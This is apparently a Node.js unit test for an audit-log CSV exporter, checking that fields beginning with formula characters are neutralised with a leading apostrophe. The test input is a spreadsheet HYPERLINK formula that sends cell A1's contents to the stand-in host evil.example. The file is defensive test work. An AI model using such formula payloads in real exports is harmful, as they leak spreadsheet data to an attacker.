import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { auditCsv } from '../server/audit/export-audit.ts';
import type { AuditEventRow } from '../server/core/db/index.ts';

const row = (data: string): AuditEventRow => ({
  id: 'row',
  sessionId: 'session',
  sequence: 1,
  at: new Date('2026-12-07T00:00:00.000Z'),
  actorKind: 'CUSTOMER',
  actorId: null,
  type: 'PAGE_VISIT',
  data,
  prevHash: '0'.repeat(64),
  hash: 'f'.repeat(64),
});

/** The `data` field of the one exported row, unquoted as a spreadsheet reads it. */
const exportedData = (data: string): string => {
  const line = auditCsv([row(data)]).split('\r\n')[1]!;
  const field = /^1,[^,]*,CUSTOMER,,PAGE_VISIT,("(?:[^"]|"")*"|[^,]*),/.exec(line)?.[1];
  assert.ok(field !== undefined, JSON.stringify(line));
  return field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
};

describe('the audit CSV export keeps spreadsheets from running fields as formulas', () => {
  it('leaves ordinary fields as they are', () => {
    assert.equal(exportedData('{"url":"https://shop.example/"}'), '{"url":"https://shop.example/"}');
    assert.equal(exportedData('a=b'), 'a=b');
  });

  it('puts an apostrophe before every character a spreadsheet may start a formula with, TAB and CR included', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
      const text = `${lead}HYPERLINK("https://evil.example/?"&A1)`;
      assert.equal(exportedData(text), `'${text}`, JSON.stringify(lead));
    }
  });
});
